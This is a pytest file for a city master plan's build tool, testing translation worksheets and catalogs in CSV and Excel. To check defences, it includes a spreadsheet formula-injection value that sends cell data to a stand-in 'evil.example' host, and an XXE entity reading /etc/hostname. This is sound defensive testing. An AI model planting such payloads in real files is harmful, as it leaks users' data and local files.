"""An edition in another language than the plan is written in: the build counts the texts it prints untranslated and
lists them, each at its file and line, in build/untranslated-<language>.csv (masterplan/translations.py)."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

from conftest import MINI_FILES, write_plan
from test_cli import invoke

AGENCY = "content/agencies/diskominfo.yml"


def _english(plan_yml: str) -> str:
    return plan_yml.replace("status: draft\n", "status: draft\n        language: en\n        written_in: id\n")


def test_an_english_edition_lists_what_it_prints_in_indonesian(make_plan: Callable[..., Path]) -> None:
    """A translator found the sample's 800 untranslated texts by a script of her own: validate and build said
    nothing of them. The build now says how many, and lists each with its file, line and field."""
    agency = MINI_FILES[AGENCY].replace("name: e-Sambat (Media Sambat Masyarakat)",
                                        "name: {id: e-Sambat (Media Sambat Masyarakat), en: e-Sambat (Citizen Complaints)}")
    agency = agency.replace("description: Warga **mengadu** lewat aplikasi.",
                            "description: '=HYPERLINK(\"https://evil.example/?\"&A2,\"Klik\")'")
    assert agency != MINI_FILES[AGENCY]
    root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"]), AGENCY: agency})
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0, out + err
    listed = root / "build" / "untranslated-en.csv"
    assert "Without a version in this edition's language (en), printed as written: texts of the plan " in out + err
    raw = listed.read_bytes()
    assert raw.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert list(rows[0]) == ["file", "line", "field", "places", "text", "en"]
    summary = next(row for row in rows if row["field"] == "programs › GOV-01 › summary")
    lines = (root / AGENCY).read_text(encoding="utf-8").splitlines()
    assert summary["file"] == AGENCY and "Aduan warga ditanggapi" in lines[int(summary["line"]) - 1]
    assert summary["text"] == "Aduan warga ditanggapi dalam 10 menit." and summary["en"] == ""
    fields = {row["field"] for row in rows if row["file"] == AGENCY}
    assert "programs › GOV-01 › indicators › 1 › name" in fields
    # a text written in several places is one row, at the first of them: the unit of GOV-01's and ECO-01's indicators
    assert [(row["field"], row["places"]) for row in rows if row["text"] == "persen"] == [
        ("programs › ECO-01 › indicators › 1 › unit", "2")]
    assert not any(row["field"] == "programs › GOV-01 › name" for row in rows)  # it has its English name
    formula = next(row for row in rows if row["field"] == "programs › GOV-01 › description")
    assert formula["text"].startswith("'=HYPERLINK(")  # an agency's text is no formula in the translator's Excel
    assert not any(row["field"] in ("short_name", "id", "kind") for row in rows)  # codes and proper names are no texts
    said = next(line for line in (out + err).splitlines() if "untranslated-en.csv" in line)
    assert f"texts of the plan {len(rows)}, chapters " in said and said.endswith(
        "listed in build/untranslated-en.csv (for Excel: build/untranslated-en.xlsx): its en column filled in and "
        "saved as content/translations.en.csv (or translations.en.xlsx), it translates them; a chapter's translation "
        "goes beside its chapter (01-pendahuluan.en.md)")
    # the Indonesian edition prints every text as written: no line, and the list of the English one is gone
    write_plan(root, {"content/plan.yml": MINI_FILES["content/plan.yml"]})
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0 and "untranslated" not in out + err and not listed.exists(), out + err


def test_the_english_books_subject_is_in_english_word_order(make_plan: Callable[..., Path]) -> None:
    """The PDF's subject joined the words "Smart city master plan" and the city: "Smart city master plan Kota Contoh
    2022–2026", Indonesian word order in English words. The subject is one message, ordered by each language."""
    import pypdf

    root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"])})
    code, out, err = invoke("build", str(root), "--no-site")
    assert code == 0, out + err
    subject = pypdf.PdfReader(root / "build" / "masterplan.pdf").metadata.subject
    assert subject == "Kota Contoh Smart City Master Plan 2022–2026 · Version 0.1 · Draft", subject


def test_the_english_sites_header_names_the_plan_in_english(make_plan: Callable[..., Path]) -> None:
    """Every page of the English edition headed with "Masterplan Smart City", the Indonesian title's words, unmarked
    as Indonesian. Without an English title the header says the catalog's "Smart City Master Plan"; with one, its
    words."""
    plan_yml = _english(MINI_FILES["content/plan.yml"])
    root = make_plan({"content/plan.yml": plan_yml})
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0, out + err

    def header() -> str:
        page = (root / "build" / "site" / "index.html").read_text(encoding="utf-8")
        return page.split('class="brand-title">', 1)[1].split("<", 1)[0].strip()

    assert header() == "Smart City Master Plan"
    write_plan(root, {"content/plan.yml": plan_yml.replace(
        "title: Masterplan Smart City Kota Contoh 2022–2026",
        "title: {id: Masterplan Smart City Kota Contoh 2022–2026, en: Kota Contoh Smart City Blueprint 2022–2026}")})
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0 and header() == "Smart City Blueprint", out + err


def _filled(root: Path, translations: dict[str, str], delimiter: str = ";") -> list[dict[str, str]]:
    """The worksheet of the last build, its en column filled in where ``translations`` has the text, saved as the
    catalog as Excel set to Indonesian saves it (UTF-8 with its mark, cells apart by semicolons); its rows."""
    with (root / "build" / "untranslated-en.csv").open(encoding="utf-8-sig", newline="") as listed:
        rows = list(csv.DictReader(listed))
    for row in rows:
        row["en"] = translations.get(row["text"], row["en"])
    with (root / "content" / "translations.en.csv").open("w", encoding="utf-8-sig", newline="") as catalog:
        writer = csv.DictWriter(catalog, fieldnames=list(rows[0]), delimiter=delimiter, lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)
    return rows


def test_the_worksheet_filled_in_and_saved_in_content_translates_the_texts(make_plan: Callable[..., Path]) -> None:
    """The translator filled in the worksheet's en column, and nothing read it back: her 700 translations were to be
    typed into 31 agencies' files, which the agencies then sent again without them. Saved as
    content/translations.en.csv, the worksheet now translates each text it lists, wherever it is written ("persen",
    a unit of two programs, once); the book, the site and the open data print the translations, and the next
    worksheet lists only what is left. The Indonesian edition does not read it."""
    import json

    from pdf_reading import page_texts
    root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"])})
    code, out, err = invoke("build", str(root), "--no-search")
    assert code == 0, out + err
    rows = _filled(root, {"persen": "+ per cent", "Aduan warga ditanggapi dalam 10 menit.":
                          "Citizens' complaints answered within 10 minutes.", "Pendahuluan": "Introduction"})
    assert [row["places"] for row in rows if row["text"] == "persen"] == ["2"]  # one row for both programs' unit
    code, out, err = invoke("build", str(root), "--no-search")
    assert code == 0 and "W54" not in out + err, out + err
    with (root / "build" / "untranslated-en.csv").open(encoding="utf-8-sig", newline="") as listed:
        listed_again = list(csv.DictReader(listed))
    left = [row["text"] for row in listed_again if not row["en"]]
    assert len(left) == len(rows) - 3 and "persen" not in left and "Pendahuluan" not in left
    assert f"texts of the plan {len(left)}, chapters " in out + err
    # the translated texts are listed last, with their translations: the next round's worksheet, filled in and saved
    # as the catalog as the build says, keeps the first round's (it replaced them: 300 translations lost at once)
    assert [(row["text"], row["en"]) for row in listed_again if row["en"]] == [
        ("persen", "'+ per cent"),  # guarded in the worksheet as any text a spreadsheet would run
        ("Aduan warga ditanggapi dalam 10 menit.", "Citizens' complaints answered within 10 minutes."),
        ("Pendahuluan", "Introduction")]
    _filled(root, {"Kota cerdas yang melayani.": "A smart city that serves."})
    code, out, err = invoke("build", str(root), "--no-search")
    assert code == 0 and "W54" not in out + err and "typed into it" not in out + err, out + err
    page = (root / "build/site/program/GOV-01.html").read_text(encoding="utf-8")
    assert "Citizens' complaints answered within 10 minutes." in page.replace("&#39;", "'")
    assert "per cent" in page and 'lang="id">persen' not in page
    assert ">Introduction<" in (root / "build/site/chapter/pendahuluan.html").read_text(encoding="utf-8")
    assert "A smart city that serves." in (root / "build/site/index.html").read_text(encoding="utf-8")
    text = " ".join(" ".join(page.split()) for page in page_texts(root / "build/masterplan.pdf"))
    assert "Introduction" in text and "Citizens' complaints answered within 10 minutes." in text.replace("’", "'")
    published = json.loads((root / "build/site/data/plan.json").read_text(encoding="utf-8"))
    program = next(p for p in published["programs"] if p["id"] == "GOV-01")
    assert program["indicators"][0]["unit"] == {"id": "persen", "en": "+ per cent"}
    # the Indonesian edition prints the texts as written, and has nothing to say of the catalog
    write_plan(root, {"content/plan.yml": MINI_FILES["content/plan.yml"]})
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0 and "translations.en.csv" not in out + err, out + err
    assert "per cent" not in (root / "build/site/program/GOV-01.html").read_text(encoding="utf-8")


def test_a_catalogs_rows_used_nowhere_or_twice_and_its_misnamed_copies_are_told(
        make_plan: Callable[..., Path]) -> None:
    """A row whose text an agency has since rewritten would be kept for ever, unused (W541); a text translated on two
    rows differently, the first used (W542); the worksheet copied into content/ under its own name, or the
    spreadsheet's .xlsx, not read at all (W017): each told at its line, with what to do."""
    root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"])})
    assert invoke("build", str(root), "--no-pdf", "--no-search")[0] == 0
    rows = _filled(root, {"persen": "per cent"}, delimiter=",")
    catalog = root / "content" / "translations.en.csv"
    with catalog.open("a", encoding="utf-8", newline="") as more:
        more.write("content/x.yml,3,name,1,Program yang sudah dihapus,Dropped program\n"
                   "content/x.yml,4,unit,1,persen,percent\n")
    (root / "content" / "untranslated-en.csv").write_bytes(catalog.read_bytes())
    (root / "content" / "translations.en.xlsx").write_bytes(b"PK\x03\x04")
    (root / "content" / "translations.en.ods").write_bytes(b"PK\x03\x04")
    (root / "content" / "translations.en (1).csv").write_bytes(catalog.read_bytes())  # as a download is saved twice
    (root / "content" / "translations.en - Copy.csv").write_bytes(catalog.read_bytes())  # as Windows copies a file
    code, out, err = invoke("validate", str(root))
    said = out + err
    assert code == 0, said
    stale, twice = len(rows) + 2, len(rows) + 3
    assert (f"content/translations.en.csv:{stale}:1: warning[W541]: 'Program yang sudah dihapus' is translated here, "
            "but no text of the plan without a translation of its own reads so") in said
    assert (f"content/translations.en.csv:{twice}:1: warning[W542]: 'persen' is translated twice: at row "
            f"{next(i for i, row in enumerate(rows, 2) if row['text'] == 'persen')} as 'per cent', here as 'percent'; "
            "the first is used") in said
    assert ("content/untranslated-en.csv: warning[W017]: untranslated-en.csv is not read: a translator's catalog is "
            "read as content/translations.en.csv (name it translations.en.csv)") in said
    assert ("content/translations.en.xlsx: warning[W017]: translations.en.xlsx is not read: translations.en.csv "
            "beside it is") in said
    assert "translations.en.ods is not read" in said and "save it from the spreadsheet as 'CSV UTF-8'" in said
    for copy in ("translations.en (1).csv", "translations.en - Copy.csv"):  # every translation was dropped unsaid
        assert (f"content/{copy}: warning[W017]: {copy} is not read: translations.en.csv beside it is (keep one of "
                "the two, the one you filled in last, named translations.en.csv)") in said
    assert "content/translations.en.csv: warning[W017]" not in said


def test_a_catalog_excel_saved_in_its_own_encoding_or_without_its_columns_stops_the_build(
        make_plan: Callable[..., Path]) -> None:
    """Excel's plain "CSV" is saved in Windows' encoding: the build stops at the line with the byte, saying how Excel
    saves UTF-8 (E003). A catalog without a text or an en column stops it at line 1 (E021). The last good site is
    kept."""
    root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"])})
    assert invoke("build", str(root), "--no-pdf", "--no-search")[0] == 0
    catalog = root / "content" / "translations.en.csv"
    catalog.write_bytes("text;en\npersen;per cent\nPendahuluan;Introduction – first\n".encode("cp1252"))
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 1 and "content/translations.en.csv:3:" in out + err and "E003" in out + err, out + err
    assert "in Excel: File › Save As, and choose 'CSV UTF-8 (Comma delimited)'" in out + err
    catalog.write_text("teks;terjemahan\npersen;per cent\n", encoding="utf-8")
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 1, out + err
    assert ("content/translations.en.csv:1:1: error[E021]: translations.en.csv has no column 'text': its first row "
            "names the columns") in out + err
    assert (root / "build/site/program/GOV-01.html").is_file()
    # a quote left open: every row after it would be read as one text, told as hundreds of rows used nowhere
    catalog.write_text('text,en\n"persen,per cent\nPendahuluan,Introduction\n', encoding="utf-8")
    code, out, err = invoke("validate", str(root))
    assert code == 1 and "W541" not in out + err, out + err
    assert ("content/translations.en.csv:2:1: error[E021]: translations.en.csv cannot be read as a table from this "
            "row on") in out + err


def test_a_catalog_saved_with_tabs_and_texts_over_several_lines_is_read_line_by_line(
        make_plan: Callable[..., Path]) -> None:
    """A text of several lines (a description) is one cell over several lines of the file: the rows after it are
    told by their number in a spreadsheet, which the translator sees (its 6th line is its 3rd row). LibreOffice may
    save the cells apart by tabs."""
    root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"])})
    (root / "content" / "translations.en.csv").write_text(
        'file\ttext\ten\nx\t"Warga **mengadu**\nlewat aplikasi."\t"Citizens **complain**\n\nthrough an app."\n'
        "x\tTeks yang sudah dihapus\tDeleted text\n", encoding="utf-8")
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0, out + err
    assert "content/translations.en.csv:3:1: warning[W541]: 'Teks yang sudah dihapus'" in out + err  # the 3rd row
    page = (root / "build/site/program/GOV-01.html").read_text(encoding="utf-8")
    assert "Citizens <strong>complain</strong>" in page and "through an app." in page


def test_a_catalog_given_between_two_versions_changes_no_name(make_plan: Callable[..., Path]) -> None:
    """The English edition of 1.0 had no translations; 1.1 came with the translator's catalog: the page of changes
    listed every program, agency and indicator given an English name as renamed ("70 with a new name; agencies: 31
    renamed"). Names are compared as the plan writes them; a translation is no change of the plan."""
    english = _english(MINI_FILES["content/plan.yml"])
    root = make_plan({"content/plan.yml": english})
    assert invoke("build", str(root), "--no-pdf", "--no-search")[0] == 0
    _filled(root, {"Transaksi Non-Tunai": "Cashless Payments", "Badan Pengelolaan Keuangan dan Aset Daerah":
                   "Finance and Assets Agency", "Aduan ditanggapi dalam 10 menit": "Complaints answered in 10 minutes"})
    write_plan(root, {"content/plan.yml": english.replace('version: "0.1"', 'version: "0.2"')})
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0 and "W54" not in out + err, out + err
    assert "Cashless Payments" in (root / "build/site/program/ECO-01.html").read_text(encoding="utf-8")
    assert "Changes since" not in out + err and not (root / "build/site/changes.html").exists(), out + err
    # a name rewritten as the plan writes it is still a new name, shown in the edition's language
    agency = MINI_FILES["content/agencies/bpkad.yml"].replace("name: Transaksi Non-Tunai", "name: Transaksi Nontunai")
    write_plan(root, {"content/plan.yml": english.replace('version: "0.1"', 'version: "0.3"'),
                      "content/agencies/bpkad.yml": agency})
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0 and "1 with a new name" in out + err, out + err


def test_translations_typed_into_the_worksheet_itself_are_kept_when_the_build_writes_it_anew(
        make_plan: Callable[..., Path]) -> None:
    """The translator filled in build/untranslated-en.csv and pressed Ctrl+S: the next build wrote the worksheet
    anew, and her 71 translations were gone without a word. They are kept beside it, and the build says where and what
    to do; so are they when the Indonesian edition is built next (which removes the English worksheet)."""
    root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"])})
    assert invoke("build", str(root), "--no-pdf", "--no-search")[0] == 0
    worksheet = root / "build" / "untranslated-en.csv"
    with worksheet.open(encoding="utf-8-sig", newline="") as listed:
        rows = list(csv.DictReader(listed))
    for row in rows:
        row["en"] = "per cent" if row["text"] == "persen" else ""
    with worksheet.open("w", encoding="utf-8-sig", newline="") as saved:  # as Excel set to Indonesian saves it
        writer = csv.DictWriter(saved, fieldnames=list(rows[0]), delimiter=";")
        writer.writeheader()
        writer.writerows(rows)
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0, out + err
    kept = sorted((root / "build").glob("untranslated-en.typed-*.csv"))
    assert len(kept) == 1 and "per cent" in kept[0].read_text(encoding="utf-8-sig")
    assert (f"build/untranslated-en.csv had 1 translations typed into it that the plan does not have: kept as "
            f"build/{kept[0].name}; save that file as content/translations.en.csv") in out + err
    assert "per cent" not in worksheet.read_text(encoding="utf-8-sig")  # the new worksheet, as every build writes it
    kept[0].rename(root / "content" / "translations.en.csv")  # as the build says
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0 and "typed into it" not in out + err and "W54" not in out + err, out + err
    assert "per cent" in (root / "build/site/program/GOV-01.html").read_text(encoding="utf-8")
    assert not list((root / "build").glob("untranslated-en.typed-*.csv"))


def test_a_mistake_in_a_catalogs_translation_is_told_at_its_row_not_at_the_agencys_file(
        make_plan: Callable[..., Path]) -> None:
    """A cross-reference, HTML or Jinja typed into a translation was told at the agency's line, whose Indonesian text
    is right: the agency would be sent to mend a file that has nothing to mend. It is told at the catalog's row."""
    root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"])})
    assert invoke("build", str(root), "--no-pdf", "--no-search")[0] == 0
    rows = _filled(root, {"Warga **mengadu** lewat aplikasi.": "Citizens complain in an app, see [[GOV-01]].",
                          "Transaksi Non-Tunai": "<b>Cashless</b> Payments", "Kota cerdas yang melayani.":
                          "A smart city that serves {{ plan.city }}."})
    row = {text: number for number, text in enumerate((row["text"] for row in rows), 2)}
    code, out, err = invoke("validate", str(root))
    said = out + err
    assert code == 0, said
    for text, code in (("Warga **mengadu** lewat aplikasi.", "W518"), ("Transaksi Non-Tunai", "W522")):
        assert f"content/translations.en.csv:{row[text]}:1: warning[{code}]" in said, (code, said)
    assert "content/agencies/diskominfo.yml" not in said and "content/agencies/bpkad.yml" not in said, said


def test_the_worksheet_for_excel_filled_in_and_saved_as_a_workbook_translates(make_plan: Callable[..., Path]) -> None:
    """Excel set to Indonesian opens a double-clicked CSV file in one column (its list separator is ';'): the
    worksheet comes as a workbook too, and the workbook filled in and saved as content/translations.en.xlsx is the
    catalog; its problems are told at the sheet's row. Saved over in build/, it is kept as the CSV file is."""
    import openpyxl
    root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"])})
    assert invoke("build", str(root), "--no-pdf", "--no-search")[0] == 0
    book = openpyxl.load_workbook(root / "build" / "untranslated-en.xlsx")
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    assert header == ["file", "line", "field", "places", "text", "en"]
    rows = {sheet.cell(number, 5).value: number for number in range(2, sheet.max_row + 1)}
    assert sheet.cell(rows["persen"], 4).value == 2  # a number, as the places are counted
    sheet.cell(rows["persen"], 6).value = "per cent"
    sheet.cell(sheet.max_row + 1, 5).value = "Teks yang sudah dihapus"  # a row used nowhere, told at its row
    sheet.cell(sheet.max_row, 6).value = "Deleted text"
    book.save(root / "build" / "untranslated-en.xlsx")  # Ctrl+S in Excel: kept by the next build
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0 and "build/untranslated-en.xlsx had 2 translations typed into it" in out + err, out + err
    kept = next((root / "build").glob("untranslated-en.typed-*.xlsx"))
    kept.rename(root / "content" / "translations.en.xlsx")  # as the build says
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0, out + err
    assert f"content/translations.en.xlsx:{sheet.max_row}:1: warning[W541]: 'Teks yang sudah dihapus'" in out + err
    assert "per cent" in (root / "build/site/program/GOV-01.html").read_text(encoding="utf-8")
    import zipfile
    catalog, sheet_xml = root / "content" / "translations.en.xlsx", "xl/worksheets/sheet1.xml"
    # a sheet naming a file of the disk as an entity (XXE): not read, and no crash; then a file that is no workbook
    broken = root / "broken.xlsx"
    with zipfile.ZipFile(catalog) as source, zipfile.ZipFile(broken, "w") as target:
        assert sheet_xml in source.namelist()
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == sheet_xml:
                data = (b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
                        + data.split(b"?>", 1)[-1].replace(b"Deleted text", b"&x;"))
            target.writestr(item, data)
    assert b"&x;" in zipfile.ZipFile(broken).read(sheet_xml)
    for written in (broken.read_bytes(), b"PK\x03\x04 not a workbook"):
        catalog.write_bytes(written)
        code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
        assert code == 1 and ("content/translations.en.xlsx:1:1: error[E021]: translations.en.xlsx cannot be read "
                              "as a workbook") in out + err, out + err


def test_a_spreadsheets_error_in_a_translations_cell_is_told_not_printed(make_plan: Callable[..., Path]) -> None:
    """A translation looked up by a formula that found nothing (#N/A) was published as the English text."""
    root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"])})
    (root / "content" / "translations.en.csv").write_text("text,en\npersen,#N/A\n", encoding="utf-8")
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    assert code == 0 and "content/translations.en.csv:2:2: warning[W544]: the translation at row 2 is the " \
        "spreadsheet's error #N/A, not a text" in out + err, out + err
    assert "#N/A" not in (root / "build/site/program/GOV-01.html").read_text(encoding="utf-8")


def test_a_translation_excel_made_a_date_or_a_number_is_told_and_the_worksheet_keeps_what_is_typed(
        make_plan: Callable[..., Path]) -> None:
    """Excel set to Indonesian makes a date of "24/7", a number of "100%" and TRUE of "benar" typed into a cell of
    the General format: the catalog read them back as "2025-07-24 00:00:00", "1" and "True" and the site printed
    them. Each is W548 at its cell and left untranslated; the worksheet's workbook formats its cells as text, so
    that Excel keeps what is typed."""
    import datetime

    import openpyxl
    root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"])})
    assert invoke("build", str(root), "--no-pdf", "--no-search")[0] == 0
    book = openpyxl.load_workbook(root / "build" / "untranslated-en.xlsx")
    sheet = book.worksheets[0]
    rows = {sheet.cell(number, 5).value: number for number in range(2, sheet.max_row + 1)}
    assert {sheet.cell(number, 6).number_format for number in rows.values()} == {"@"}  # text: kept as typed
    made = {"persen": datetime.datetime(2025, 7, 24), "indeks": 1500.5, "Terbatas": True}
    for text, value in made.items():
        sheet.cell(rows[text], 6).value = value
    book.save(root / "content" / "translations.en.xlsx")
    code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
    said = out + err
    assert code == 0, said
    for text, shown in (("persen", "a date Excel made of what was typed (2025-07-24 00:00:00)"),
                        ("indeks", "a number Excel made of what was typed (1500.5)"),
                        ("Terbatas", "TRUE/FALSE Excel made of what was typed (TRUE)")):
        assert (f"content/translations.en.xlsx:{rows[text]}:6: warning[W548]: the translation at row {rows[text]} is "
                f"{shown}, not a text: the row is left untranslated") in said, said
    page = (root / "build/site/program/GOV-01.html").read_text(encoding="utf-8")
    assert "2025-07-24" not in page and ">persen<" in page.replace(" ", "")
